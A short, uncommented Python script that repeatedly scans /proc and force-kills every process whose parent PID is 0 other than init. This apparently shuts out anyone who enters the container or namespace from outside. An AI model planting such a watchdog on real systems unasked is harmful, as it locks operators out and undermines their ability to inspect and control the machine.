import os
import re
import signal
import time

while True:
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/status") as file:
                if re.search(r"^PPid:\t0$", file.read(), re.MULTILINE) and pid != "1":
                    os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.002)
